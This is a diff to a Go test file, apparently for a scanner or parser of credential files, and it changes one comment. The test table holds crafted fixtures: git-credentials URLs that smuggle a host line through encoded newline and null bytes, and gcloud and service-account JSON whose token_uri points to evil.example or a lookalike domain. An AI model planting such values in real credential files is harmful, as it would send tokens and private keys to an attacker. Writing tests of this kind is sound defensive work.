@@ -76,7 +76,8 @@ func TestTextThatToolsReadDifferently(t *testing.T) {
 		// another host.
 		{"~/.git-credentials", "https://u%0ahost=github.com:{{value}}@h.example\n"},
 		{"~/.git-credentials", "https://u:{{value}}%0D%00@h.example\n"},
-		// Google's tools send the credential to these servers.
+		// Google's tools send the credential to the server in these keys, even if it is another
+		// server than Google's.
 		{"~/.config/gcloud/application_default_credentials.json", `{"type": "authorized_user", "refresh_token": "{{t}}", "token_uri": "https://evil.example"}`},
 		{"/w/my-service-account.json", `{"private_key": "{{key}}", "token_uri": "https://oauth2.googleapis.com.evil.example/token"}`},
 		{"/w/my-service-account.json", `{"private_key": "{{key}}", "token_uri": "https://oauth2.googleapis.com/token{{e}}"}`},
